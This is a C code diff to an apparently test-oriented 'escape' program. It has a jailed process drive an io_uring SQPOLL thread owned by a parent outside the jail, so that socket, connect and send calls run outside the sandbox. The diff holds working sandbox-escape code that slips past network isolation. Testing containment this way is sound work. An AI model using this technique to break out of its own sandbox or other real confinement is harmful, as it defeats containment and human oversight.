@@ -106,6 +106,11 @@ typedef struct {
     struct io_uring_cqe* cqes;
 } MappedRing;
 
+// The SQPOLL thread reads an SQE's pointers (the address to connect to, the bytes to send)
+// in its owner's memory: they point into the ring's SQE array, which both processes map
+// (at different addresses); its last two entries hold the data.
+#define RING_ENTRIES 8
+
 static int map_ring(int fd, const struct io_uring_params* p, MappedRing* r) {
     size_t sq_size = p->sq_off.array + p->sq_entries * sizeof(unsigned);
     const size_t cq_size = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe);
@@ -147,12 +152,13 @@ static int sqpoll_run(MappedRing* r, const struct io_uring_sqe* sqe) {
     return res;
 }
 
-// ring-inherited FD PARAMS ADDR PORT: drives an io_uring made outside the jail (by
+// ring-inherited FD PARAMS SQES ADDR PORT: drives an io_uring made outside the jail (by
 // `escape sqpoll-parent`) whose SQPOLL thread runs in that outside process: socket, connect
-// and send happen there. PARAMS: the ring's io_uring_params in hex.
+// and send happen there. PARAMS: the ring's io_uring_params in hex; SQES: where its owner
+// mapped the SQE array.
 static int case_ring_inherited(int argc, char** argv) {
-    if (argc < 6) {
-        fprintf(stderr, "usage: escape ring-inherited FD PARAMS ADDR PORT\n");
+    if (argc < 7) {
+        fprintf(stderr, "usage: escape ring-inherited FD PARAMS SQES ADDR PORT\n");
         return 2;
     }
     struct io_uring_params p;
@@ -163,11 +169,16 @@ static int case_ring_inherited(int argc, char** argv) {
         ((uint8_t*)&p)[i] = (uint8_t)v;
     }
     Addr a;
-    parse_addr(argv[4], argv[5], &a);
+    parse_addr(argv[5], argv[6], &a);
     MappedRing r;
     if (map_ring(pid_arg(argv[2]), &p, &r) != 0) {
         return 1;
     }
+    const size_t at = (RING_ENTRIES - 2) * sizeof(struct io_uring_sqe);
+    uint8_t* mine = (uint8_t*)r.sqes + at;  // the same bytes as `owner`
+    const uint64_t owner = strtoull(argv[4], NULL, 16) + at;
+    memcpy(mine, &a.ss, a.len);
+    memcpy(mine + 64, g_marker, marker_len());
     struct io_uring_sqe sqe;
     memset(&sqe, 0, sizeof sqe);
     sqe.opcode = IORING_OP_SOCKET;
@@ -180,7 +191,7 @@ static int case_ring_inherited(int argc, char** argv) {
     memset(&sqe, 0, sizeof sqe);
     sqe.opcode = IORING_OP_CONNECT;
     sqe.fd = fd;
-    sqe.addr = (uint64_t)(uintptr_t)&a.ss;
+    sqe.addr = owner;
     sqe.off = a.len;
     int res = sqpoll_run(&r, &sqe);
     if (res < 0) {
@@ -189,7 +200,7 @@ static int case_ring_inherited(int argc, char** argv) {
     memset(&sqe, 0, sizeof sqe);
     sqe.opcode = IORING_OP_SEND;
     sqe.fd = fd;
-    sqe.addr = (uint64_t)(uintptr_t)g_marker;
+    sqe.addr = owner + 64;
     sqe.len = (uint32_t)marker_len();
     if ((res = sqpoll_run(&r, &sqe)) < 0) {
         return fail_err("IORING_OP_SEND", -res);
@@ -198,8 +209,9 @@ static int case_ring_inherited(int argc, char** argv) {
 }
 
 // sqpoll-parent CMD ARGS...: makes an io_uring with an SQPOLL thread (idle for 60 s before it
-// sleeps), starts CMD with the ring's fd inherited and ESCAPE_RING_FD / ESCAPE_RING_PARAMS
-// in its environment, and waits for it: the ring's thread lives in this process, outside.
+// sleeps) and maps it, starts CMD with the ring's fd inherited and
+// ESCAPE_RING_FD / ESCAPE_RING_PARAMS / ESCAPE_RING_SQES in its environment, and waits for it: the
+// ring's thread lives in this process, outside.
 static int case_sqpoll_parent(int argc, char** argv) {
     if (argc < 3) {
         fprintf(stderr, "usage: escape sqpoll-parent CMD ARGS...\n");
@@ -209,9 +221,16 @@ static int case_sqpoll_parent(int argc, char** argv) {
     memset(&p, 0, sizeof p);
     p.flags = IORING_SETUP_SQPOLL;
     p.sq_thread_idle = 60000;
-    const int fd = (int)syscall(__NR_io_uring_setup, 8, &p);
+    const int fd = (int)syscall(__NR_io_uring_setup, RING_ENTRIES, &p);
     if (fd < 0) {
         return fail("io_uring_setup(IORING_SETUP_SQPOLL)");
+    }
+    MappedRing r;  // as any owner of a ring, it maps it
+    if (map_ring(fd, &p, &r) != 0) {
+        return 1;
+    }
+    if (fcntl(fd, F_SETFD, 0) < 0) {  // the ring's descriptor is close-on-exec
+        return fail("fcntl(F_SETFD)");
     }
     char hex[2 * sizeof p + 1], num[16];
     for (size_t i = 0; i < sizeof p; i++) {
@@ -219,15 +238,26 @@ static int case_sqpoll_parent(int argc, char** argv) {
     }
     snprintf(num, sizeof num, "%d", fd);
     setenv("ESCAPE_RING_FD", num, 1);
+    char sqes[32];
+    snprintf(sqes, sizeof sqes, "%lx", (unsigned long)(uintptr_t)r.sqes);
+    setenv("ESCAPE_RING_SQES", sqes, 1);
     setenv("ESCAPE_RING_PARAMS", hex, 1);
     const pid_t child = fork();
     if (child == 0) {
         execvp(argv[2], argv + 2);
         _exit(127);
     }
+    if (child < 0) {
+        return fail("fork");
+    }
+    // A busy owner: the SQPOLL thread goes to sleep when idle, and this process wakes it
+    // (IORING_ENTER_SQ_WAKEUP), as a program that keeps using its ring does.
     int status = 0;
-    if (child < 0 || waitpid(child, &status, 0) < 0) {
-        return fail("fork/waitpid");
+    while (waitpid(child, &status, WNOHANG) == 0) {
+        if (__atomic_load_n(r.sq_flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP) {
+            syscall(__NR_io_uring_enter, fd, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0);
+        }
+        usleep(1000);
     }
     return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
 }
